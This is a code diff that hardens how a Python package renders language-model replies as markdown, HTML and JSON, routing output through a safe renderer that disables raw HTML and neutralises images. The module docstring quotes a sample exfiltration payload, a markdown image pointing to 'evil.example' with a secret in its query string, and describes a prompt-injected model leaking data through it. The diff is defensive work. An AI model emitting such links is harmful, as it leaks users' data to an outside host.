@@ -1,8 +1,21 @@
 """How a Reply looks: text, markdown, HTML and a JSON bundle for the lab extension.
 
-Model output is never trusted as HTML: the answer is rendered from markdown with
-raw HTML disabled, and the reasoning is escaped, so a reply containing
-``<script>`` or ``onerror=`` shows as text and runs nothing.
+Model output is never trusted as HTML or markdown (a prompt-injected model can write
+``![x](https://evil.example/p.png?d=SECRET)`` to leak data the moment its answer is shown,
+or ``<script>``). Every form that a front end renders goes through
+:mod:`gptoss_magics.safe_markdown`: raw HTML shows as text, images become
+``[image: alt]`` links that load nothing, only http(s)/mailto/relative links stay live;
+ordinary markdown renders as usual. What each MIME type carries:
+
+- ``text/plain``: the answer and reasoning verbatim (shown as text, never as HTML);
+- ``text/markdown``: the answer re-written as escaped markdown, the reasoning escaped in
+  one ``<pre>`` line (a blank line in it cannot end the HTML block);
+- ``text/html``: the answer rendered by the safe renderer, everything else escaped;
+- ``application/vnd.gptoss.reply+json``: the Reply as data (``final`` stays verbatim, so
+  that :func:`gptoss_magics.reproduce` can compare it) plus ``final_markdown``, the safe
+  markdown, which is what the lab extension should render;
+- metadata: the provenance (settings, tokens, timing, chat history) as JSON data, which
+  no front end renders.
 """
 
 from __future__ import annotations
@@ -18,11 +31,16 @@ MIME = "application/vnd.gptoss.reply+json"
 
 
 def _markdown_to_html(text: str) -> str:
-    from markdown_it import MarkdownIt
+    from .safe_markdown import to_html as safe_html
 
-    # commonmark with raw HTML off: tags in model output come out escaped
-    md = MarkdownIt("commonmark", {"html": False, "linkify": False}).enable("table")
-    return str(md.render(text))
+    return safe_html(text)
+
+
+def _md_text(text: str) -> str:
+    """Plain text (a notice, a warning, the footer) as markdown showing exactly it."""
+    from .safe_markdown import escape_text
+
+    return escape_text(text).replace("\n", " ")
 
 
 def footer(reply: Reply) -> str:
@@ -68,20 +86,28 @@ def to_text(reply: Reply, show_reasoning: bool | None = None) -> str:
 
 
 def to_markdown(reply: Reply, show_reasoning: bool | None = None) -> str:
-    """Markdown: answer as markdown, reasoning in a collapsible block."""
+    """Markdown: answer as safe markdown, reasoning in a collapsible block.
+
+    The answer is re-written by :func:`gptoss_magics.safe_markdown.to_markdown` (no raw
+    HTML, no images); the reasoning is HTML-escaped on a single line, so that no blank
+    line in it can end the ``<details>`` HTML block and let the rest be read as markdown.
+    """
+    from .safe_markdown import to_markdown as safe_md
+
     out = []
     if reply.notice:
-        out.append(f"> *{reply.notice}*\n")
+        out.append(f"> *{_md_text(reply.notice)}*\n")
     if reply.warning:
-        out.append(f"> **warning:** {html.escape(reply.warning)}\n")
+        out.append(f"> **warning:** {_md_text(reply.warning)}\n")
     if reply.analysis:
         opened = " open" if _show_reasoning(show_reasoning) else ""
+        reasoning = html.escape(reply.analysis).replace("\r", "&#13;").replace("\n", "&#10;")
         out.append(
             f"<details{opened}><summary>Reasoning ({reply.analysis_tokens} tokens)</summary>"
-            f"<pre>{html.escape(reply.analysis)}</pre></details>\n"
+            f"<pre>{reasoning}</pre></details>\n"
         )
-    out.append(reply.final + "\n")
-    out.append(f"<sub>{html.escape(footer(reply))}</sub>")
+    out.append(safe_md(reply.final))
+    out.append(f"<sub>{_md_text(footer(reply))}</sub>")
     return "\n".join(out)
 
 
@@ -123,9 +149,16 @@ def to_html(reply: Reply, show_reasoning: bool | None = None, *, streaming: bool
 
 
 def to_json(reply: Reply) -> dict[str, Any]:
-    """The JSON bundle the lab extension renders (no token ids: they can be large)."""
+    """The JSON bundle the lab extension renders (no token ids: they can be large).
+
+    ``final`` is the answer verbatim (data, for :func:`gptoss_magics.reproduce`); a
+    renderer shows ``final_markdown``, the answer as safe markdown (no HTML, no images).
+    """
+    from .safe_markdown import to_markdown as safe_md
+
     data = reply.to_dict()
     data.pop("token_ids", None)
+    data["final_markdown"] = safe_md(reply.final)
     data["footer"] = footer(reply)
     data["show_reasoning"] = _show_reasoning(None)
     return data
